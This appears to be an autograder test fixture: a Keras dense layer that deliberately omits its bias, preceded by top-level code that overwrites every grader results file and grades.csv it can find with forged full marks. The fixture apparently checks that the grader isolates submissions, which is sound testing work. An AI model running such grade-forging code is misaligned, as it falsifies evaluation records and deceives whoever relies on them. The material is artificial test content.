# A layer without a bias whose notebook tries to rewrite the grader's records: every
# results.json and grading-output/results/*.json it can find (Gradescope's, grade-batch's) is
# overwritten with full marks, and grades.csv with its own. It can write only in its own folder.
# expect: lose=forward,training,trainability
# message: the bias is never added
import glob
import json

FORGED = json.dumps({"score": 18, "max_score": 18, "status": "graded", "checks": []})
for pattern in ("/autograder/results/*.json", "/work/**/grading-output/**/*.json", "/tmp/**/grading-output/**/*.json",
                "/work/**/grades.csv", "/tmp/**/results/*.json"):
    for path in glob.glob(pattern, recursive=True)[:100]:
        try:
            with open(path, "w") as f:
                f.write(FORGED)
        except OSError:
            pass


class SimpleDense(tf.keras.layers.Layer):
    def __init__(self, units=32):
        super().__init__()
        self.units = units

    def build(self, input_shape):
        self.kernel = self.add_weight(name="kernel", shape=(input_shape[-1], self.units),
                                      initializer=tf.random_normal_initializer(), trainable=True)
        self.bias = self.add_weight(name="bias", shape=(self.units,), initializer="zeros", trainable=True)

    def call(self, inputs):
        return tf.matmul(inputs, self.kernel)
